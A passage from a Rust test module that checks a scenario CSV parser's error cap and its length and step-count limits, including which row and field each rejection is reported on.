        let rows: Vec<String> = (0..300)
            .map(|index| format!("S{index},SALES,true,TYPICAL,1,a,"))
            .collect();
        let row_refs: Vec<&str> = rows.iter().map(String::as_str).collect();

        let errors = parse(&file(&row_refs)).expect_err("every row is bad");

        assert_eq!(errors.len(), MAX_ERRORS);
        assert_eq!(errors.last().map(|error| error.line), Some(201));
    }

    #[test]
    fn a_name_refused_by_the_scenario_rules_is_placed_on_the_scenario_first_row() {
        let long_name = "N".repeat(201);
        let text = file(&[
            "A,SALES,true,TYPICAL,1,a,b",
            &format!("{long_name},SALES,true,TYPICAL,1,a,b"),
            &format!("{long_name},SALES,true,TYPICAL,2,a,b"),
        ]);

        assert_eq!(places(&text), vec![(3, Some("scenario"))]);
    }

    #[test]
    fn a_step_text_refused_by_the_scenario_rules_is_placed_on_that_step_row() {
        let long_action = "a".repeat(1001);
        let text = file(&[
            "A,SALES,true,TYPICAL,1,a,b",
            &format!("A,SALES,true,TYPICAL,2,{long_action},b"),
        ]);

        assert_eq!(places(&text), vec![(3, Some("action"))]);
    }

    #[test]
    fn a_scenario_with_too_many_steps_is_refused_by_the_scenario_rules() {
        let rows: Vec<String> = (1..=51)
            .map(|number| format!("A,SALES,true,TYPICAL,{number},a,b"))
            .collect();
        let row_refs: Vec<&str> = rows.iter().map(String::as_str).collect();

        assert_eq!(places(&file(&row_refs)), vec![(2, Some("step"))]);
    }
}
